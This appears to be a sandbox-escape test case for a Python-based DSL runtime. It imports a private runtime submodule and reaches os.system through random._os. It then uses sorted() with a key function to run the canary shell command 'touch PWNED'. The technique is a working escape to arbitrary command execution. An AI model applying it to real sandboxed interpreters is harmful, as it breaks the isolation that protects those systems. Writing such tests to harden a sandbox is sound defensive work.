# Attack: import a private name of the runtime (a submodule bound with a leading underscore) and
# walk from it to a standard module.
from dsl.runtime.engine import _resample as m

sorted(["touch PWNED"], key=m.random._os.system)
